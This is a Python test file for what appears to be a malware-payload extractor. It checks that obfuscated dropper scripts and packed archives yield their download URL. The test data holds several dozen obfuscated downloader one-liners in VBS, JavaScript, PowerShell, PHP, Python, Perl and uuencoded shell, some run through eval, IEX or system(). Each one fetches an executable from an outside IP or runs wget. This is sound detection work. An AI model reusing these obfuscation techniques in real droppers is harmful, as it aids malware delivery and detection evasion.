"""What droppers write in pieces or packed, as write-ups show them: each form says where it would fetch from."""

# ruff: noqa: E501 (scripts stay on the lines on which they were written)
from __future__ import annotations

import base64
import binascii
import bz2
import codecs
import io
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.payload import unfolding, unpacking
from eudaemon.payload.extract import extract
from eudaemon.payload.unfolding import unfolded
from eudaemon.payload.unpacking import unpacked
from eudaemon.world.host import Host
from eudaemon.world.seed import Seed

HOST = Host.from_seed(Seed(b"unfolding"))
URL = "http://45.9.8.7/a.exe"
VBS = 'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", %s, False\r\nx.Send\r\n'
JS = "var x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', %s, false);\nx.send();\n"
PS = "(New-Object Net.WebClient).DownloadFile(%s, 'a.exe')"
COMMAND = f"wget {URL} -O /tmp/a"


def numbers(text: str, mark: str = ",", key: int = 0) -> str:
    return mark.join(str(ord(one) ^ key) for one in text)


def bare(text: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()


def zipped(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


UU = f"system('{COMMAND}');"
ROWS = {
    "vbs joined": VBS % '"ht" & "tp://45.9" & _\r\n  ".8.7/a" & ".exe"',
    "vbs chr": VBS % " & ".join(f"Chr({ord(one)})" for one in URL),
    "vbs chr in hex": VBS % "&".join(f"ChrW(&H{ord(one):x})" for one in URL),
    "vbs chr, executed": "Execute(" + "&".join(f"chr({ord(one)})" for one in VBS % f'"{URL}"') + ")",
    "vbs reversed": VBS % f'StrReverse("{URL[::-1]}")',
    "vbs replaced": 'CreateObject("WScript.Shell").Run Replace("powershell -c iwr hXXp://45.9.8.7/a.exe -o a", "XX", "tt")',
    "vbs numbers in a text": VBS % f'Decoded(Split("{numbers(URL, " ")}", " "))',
    "vbs numbers behind a XOR": VBS % f"Decoded(Array({numbers(URL, key=7)}), 7)",
    "js joined": JS % "'ht'+'tp://45' + '.9.8.7'+'/a.exe'",
    "js characters": JS % f"String.fromCharCode({numbers(URL)})",
    "js reversed": JS % f"'{URL[::-1]}'.split('').reverse().join('')",
    "js numbers behind a XOR": f"var a=[{numbers(URL, key=66)}],u='';for(var i=0;i<a.length;i++)u+=String.fromCharCode(a[i]^66);" + JS % "u",
    "js replaced": JS % "'h##p://45.9.8.7/a.e%%e'.replace(/#/g, 't').replace('%%', 'x')",
    "ps joined": PS % "('ht'+'tp:/'+'/45.9'+'.8.7/a.exe')",
    "ps characters": f"IEX ({'+'.join(f'[char]{ord(one)}' for one in PS % repr(URL))})",
    "ps replaced": f"$u='hXXp://45.9.8.7/a.exe' -replace 'XX','tt';{PS % '$u'}",
    "php joined": "<?php $u='ht'.'tp://45.9'.'.8.7/a.exe';file_put_contents('a',file_get_contents($u));",
    "php deflated": f"<?php eval(gzinflate(base64_decode('{bare(f'system({COMMAND!r});')}')));",
    "php deflated twice": "<?php eval(base64_decode('" + base64.b64encode(f"eval(gzinflate(base64_decode('{bare(f'system({COMMAND!r});')}')));".encode()).decode() + "'));",
    "php rotated": "<?php eval(str_rot13('" + codecs.encode(f'system("{COMMAND}");', "rot13") + "'));",
    "php reversed": f"<?php copy(strrev('{URL[::-1]}'), 'a');",
    "php replaced": "<?php copy(str_replace('QQ', 'tt', 'hQQp://45.9.8.7/a.exe'), 'a');",
    "python reversed": f"exec((lambda _:__import__('zlib').decompress(__import__('base64').b64decode(_[::-1])))(b'{base64.b64encode(zlib.compress(COMMAND.encode())).decode()[::-1]}'))",
    "python numbers": f"exec(bytes([{', '.join(str(ord(one)) for one in f'import os;os.system({COMMAND!r})')}]))",
    "perl uuencoded": f"eval unpack u=>q{{{binascii.b2a_uu(UU.encode()[:45]).decode()}}};",
    "uuencoded": f"#!/bin/sh\nuudecode <<'E'\nbegin 644 /tmp/x\n{binascii.b2a_uu(f'{COMMAND} '.encode()).decode()}`\nend\nE\n",
}  # fmt: skip


@pytest.mark.parametrize("name", ROWS)
def test_what_is_written_in_pieces_is_found(name: str) -> None:
    assert URL in [download.url for download in extract(ROWS[name].encode(), HOST).downloads]


SCRIPT = f"#!/bin/sh\n{COMMAND}\n".encode()
PACKED = {
    "zip": zipped({"x/run.sh": SCRIPT}),
    "stored": zipped({"run.sh": SCRIPT}, method=zipfile.ZIP_STORED),
    "zip in zip": zipped({"a.zip": zipped({"run.sh": SCRIPT})}),
    "of which the end is missing": zipped({"run.sh": SCRIPT, "b": bytes(range(256)) * 99})[:-300],
    "jar": zipped({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "a/B.class":
                   b"\xca\xfe\xba\xbe\0\0\0\x34\0\x02\x01" + len(URL).to_bytes(2, "big") + URL.encode()}),
    "template": zipped({"[Content_Types].xml": b"<x/>", "word/_rels/settings.xml.rels":
                        f'<Relationship Target="{URL}" TargetMode="External"/>'.encode()}),
    "bzip2": bz2.compress(SCRIPT),
}  # fmt: skip


@pytest.mark.parametrize("name", PACKED)
def test_what_is_packed_is_found(name: str) -> None:
    assert URL in [download.url for download in extract(PACKED[name], HOST).downloads]


@pytest.mark.parametrize(
    "text", [b"", b"it's 'a' and 'b'", b"1,2,3", b'{"a": "b", "c": "d"}', b"from 45.9.8.7, 10.0.0.1", b"'a' 'b'"]
)
def test_what_is_whole_stays_so(text: bytes) -> None:
    assert list(unfolded(text)) == []


def test_a_regular_expression_that_means_more_than_itself_is_left() -> None:
    assert list(unfolded(b"'abc'.replace(/a.c/g, 'x')")) == []
    assert list(unfolded(rb"'a.c'.replace(/\./g, 'b')")) == [b"'abc'"]


def test_replacing_makes_no_text_grow_without_end() -> None:
    grown = b"'aaaa'" + b".replace('a', 'aaaaaaaa')" * unfolding.ROUNDS_MAX
    assert all(len(made) <= 2 * len(grown) for made in unfolded(grown))
    assert list(unfolded(b"'a'.replace('a','" + b"b" * 10 + b"')")) == [b"'" + b"b" * 10 + b"'"]
    assert list(unfolded(b"'a'.replace('a','" + b"b" * 11 + b"')")) == []


def test_a_row_has_its_least_length() -> None:
    assert list(unfolded(b"f(104,105,104,105,104,105,104,105)")) == [b'f("hihihihi")']
    assert list(unfolded(b"f(104,105,104,105,104,105,104)")) == []


def test_so_much_of_a_text_is_looked_at_and_no_more() -> None:
    before = b" " * (unfolding.TEXT_BYTES_MAX - 7)
    assert next(unfolded(before + b"'a'+'b'")).endswith(b"'ab'")
    assert list(unfolded(before + b" 'a'+'b'")) == []


def test_so_many_stretches_are_inflated_and_no_more() -> None:
    stretches = [bare(f"command number {number}") for number in range(unfolding.INFLATED_MAX + 1)]
    found = list(unfolded(b"gzinflate " + " ".join(stretches).encode()))
    assert found == [f"command number {number}".encode() for number in range(unfolding.INFLATED_MAX)]


def test_an_archives_limits() -> None:
    many = zipped({str(number): b"%d" % number for number in range(unpacking.MEMBERS_MAX + 1)})
    assert len(list(unpacked(many, 1 << 20))) == unpacking.MEMBERS_MAX
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        large = zipped({"a": b"a" * 600, "b": b"b" * 600}, method=method)
        assert [len(member) for member in unpacked(large, 1000)] == [600, 400]
    assert list(unpacked(bz2.compress(b"a" * 1001), 1000)) == [b"a" * 1000]


@given(st.binary(max_size=200))
def test_broken_archives_give_what_can_be_read(noise: bytes) -> None:
    for whole in (b"PK\x03\x04", b"BZh91AY&SY", PACKED["zip"][:40]):
        assert sum(map(len, unpacked(whole + noise, 1000))) <= 1000


@given(st.binary(max_size=200))
def test_noise_is_no_script(noise: bytes) -> None:
    assert len(list(unfolded(noise))) <= 4 + unfolding.INFLATED_MAX
